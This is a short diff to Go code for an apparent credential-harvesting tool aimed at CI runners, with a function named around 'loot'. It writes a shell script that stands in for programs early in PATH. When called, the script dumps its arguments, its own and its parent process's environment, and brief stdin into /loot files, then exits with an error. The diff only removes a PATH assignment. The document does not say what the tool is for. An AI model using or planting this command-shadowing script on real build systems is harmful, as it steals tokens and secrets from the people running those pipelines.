@@ -13,7 +13,6 @@ const home = "/home/runner"
 // because some of those that it replaces come first in PATH.
 func programs(l *loot) {
 	script := `#!/bin/sh
-PATH=/usr/bin:/bin
 { echo "@@ $0 $*"; /usr/bin/env; /usr/bin/tr '\0' '\n' < /proc/self/environ; /usr/bin/tr '\0' '\n' < /proc/$PPID/environ; /usr/bin/timeout 1 /usr/bin/cat; } >> /loot/programs.replaced.$$.loot 2>&1
 exit 1
 `
